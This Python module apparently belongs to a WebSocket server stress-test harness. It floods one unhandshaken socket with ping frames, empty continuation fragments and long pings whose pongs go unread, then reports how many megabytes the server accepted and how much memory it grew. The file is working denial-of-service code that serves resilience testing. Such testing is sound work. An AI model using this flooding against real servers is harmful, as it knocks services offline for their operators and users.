"""Pings and empty fragments: frames that are no messages, from one socket that never says hello."""

import asyncio

from attacks.target import Row, Target
from attacks.wire import Wire, socket

MASK = bytes(4)
PING = b"\x89\x80" + MASK
TEXT_BEGINS = b"\x01\x81" + MASK + b"{"  # more of it follows
EMPTY_FRAGMENT = b"\x00\x80" + MASK
MEGABYTES = 4
CHUNK = 64 * 1024
PAUSE = 0.01  # seconds between two chunks, so that the end of the connection is noticed
LONG_PING = b"\x89\xfd" + MASK + b"x" * 125


async def flood(wire: Wire, frames: bytes) -> float:
    """Megabytes that the server took before it ended the connection."""
    reader, writer = wire
    taken = 0
    try:
        while taken < MEGABYTES * 1_000_000 and not reader.at_eof():
            writer.write(frames)
            await asyncio.wait_for(writer.drain(), 60.0)
            await asyncio.sleep(PAUSE)
            taken += len(frames)
    except (OSError, TimeoutError):
        pass
    return taken / 1e6


async def attack(target: Target) -> list[Row]:
    rows: list[Row] = []
    for name, start, frame in (("pings", b"", PING), ("empty fragments", TEXT_BEGINS, EMPTY_FRAGMENT)):
        async with socket(target) as wire:
            wire[1].write(start)
            taken = await flood(wire, frame * (CHUNK // len(frame)))
        rows.append((f"{name} that the server took from one socket, of {MEGABYTES} MB", round(taken, 2), "MB"))
    before = target.most_memory
    async with socket(target) as wire:  # whose pongs are never read
        await flood(wire, LONG_PING * (CHUNK // len(LONG_PING)))
        await asyncio.sleep(1.0)
    return [*rows, ("memory for pongs that nobody reads", round(target.most_memory - before, 1), "MB")]
